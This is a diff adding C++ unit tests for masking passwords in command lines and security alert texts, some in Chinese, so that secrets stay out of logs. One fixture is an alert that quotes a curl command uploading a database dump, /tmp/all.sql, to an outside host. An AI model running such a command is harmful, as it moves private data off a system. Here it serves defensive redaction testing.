@@ -141,6 +141,72 @@ TEST(Secrets, CommandsTakePasswordsInOptions) {
   }
 }
 
+TEST(Secrets, EachCommandOfALineHasItsOwn) {
+  for (auto* line : {
+           "COMMAND=/usr/bin/sshpass -p «leakone» ssh a -p 22",
+           "sshpass -p «leakone» ssh -p 22 li@a; sshpass -p «leaktwo» ssh -p 22 li@b",
+           "[\"sshpass\",\"-p\",\"«leakone»\",\"ssh\",\"-p\",\"22\"]",
+           "curl -u a:«pw1word» https://a.example/ ; curl -u b:«pw2word» https://b.example/",
+           "curl -u a:«pw1word» --proxy-user b:«pw2word» https://a.example/",
+           "curl --proxy-user b:«pw2word» -sS -u a:«pw1word» https://a.example/",
+           "curl -U b:«pw2word» -u a:«pw1word» https://a.example/",
+           "mysql -p«leakone» -e 'select 1'; mysql -p«leaktwo»",
+           "mysql -p«leakone;mysql» -p«leaktwo» shop",
+           "mysqldump -p«leakone» shop | mysql -p«leaktwo» -h b",
+           "redis-cli -a «leakone» info; redis-cli -a «leaktwo» info",
+           "redis-cli -a «leakone» info && redis-cli -h b -a «leaktwo» info",
+           "docker login -p «leakone» reg.example && docker run -p 8080:80 nginx",
+           "psexec -p «leakone» \\\\a cmd ; ldapsearch -w «leaktwo» -p 389",
+           "sqlplus sys/«leakone» as sysdba @/tmp/a.sql",
+           "sudo sshpass -p «leakone» ssh a mysql -p«leaktwo»",
+           "mosquitto_pub -h b -p 1883 -u li -P «leakone» -t a; ipmitool -H c -p 623 -P «leaktwo» power",
+           "mysql -p'«my dear secret»' shop; mysql -p\"«and; another»\" shop",
+           "curl -u 'li:«my dear secret»' https://a.example/",
+           "[\"mysql\",\"-p«my dear secret»\",\"shop\"]",
+           "{\"a\":\"mysql -p'«never» ends\",\"b\":\"it's\"}",
+           "{\"a\":\"mysql -p\\\"«my dear secret»\\\" shop\",\"b\":1}",
+           "mysql -p«a,b» shop",
+       }) {
+    expect_marked(line);
+  }
+}
+
+// A reason tells a command in the middle of what it says.
+TEST(Secrets, ACommandInASentenceEndsWhereTheSentenceGoesOn) {
+  for (auto* line : {
+           "li 在 db-07 上执行了 mysqldump -u root -p«hunter2»（在有记录的 20 天内从未出现）",
+           "li 取得 root 权限（mysql -u root -p«hunter2»），来自 192.0.2.7",
+           "以 root 执行 sshpass -p «hunter2»；随后退出",
+           "以 root 执行 curl -u li:«hunter2»。",
+           "先后执行 redis-cli -a «hunter2»、redis-cli -a «other2»，共 2 次",
+           "执行了“mysql -p«hunter2»”，主机 db-07",
+           "li ran mysql -u root -p«hunter2»; the list of administrators has no such account",
+           "li became root (mysql -u root -p«hunter2») on db-07",
+           "Falco: a shell (li: mysql -p«hunter2»); never before",
+           "li ran mysql -p«hunter2», then left",
+           "li 执行 tool --password «hunter2»（首次出现）",
+           "li 执行 tool --password=«hunter2»）后退出",
+           // what may stand in a password stays hidden with it
+           "mysql -p«a;b» shop",
+           "mysql -p«a)b» shop",
+           "mysql -p'«a;b»' shop",
+           "mysql -p'«a;»' shop",
+           "sshpass -p \"«a，b»\" ssh li@a",
+       }) {
+    expect_marked(line);
+  }
+}
+
+// An alert tells the same command in each language, in its key, and cut off.
+TEST(Secrets, AllTextsOfAnAlertAreMasked) {
+  expect_marked(
+      R"({"event":{"reason":"bob copied data away from db-07: curl -u bob:«pw1word» -T /tmp/all.sql https://x.example/"},)"
+      R"("message":"bob copied data away from db-07: curl -u bob:«pw1word» -T /tmp/all.sql https://x.example/",)"
+      R"("yushi":{"alert":{"key":"process.command_line=curl -u bob:«pw1word» -T /tmp/all.sql",)"
+      R"("reason":"bob copied data away from db-07: curl -u bob:«pw1word»; the list of administrators has no such account",)"
+      R"("reason_zh":"bob 将数据传送到外部（curl -u bob:«pw1word»），主机 db-07（在有记录的 20 天内从未出现）"}}})");
+}
+
 TEST(Secrets, SomeAreKnownByTheirForm) {
   for (auto* line : {
            "key «AKIAIOSFODNN7EXAMPLE» used",
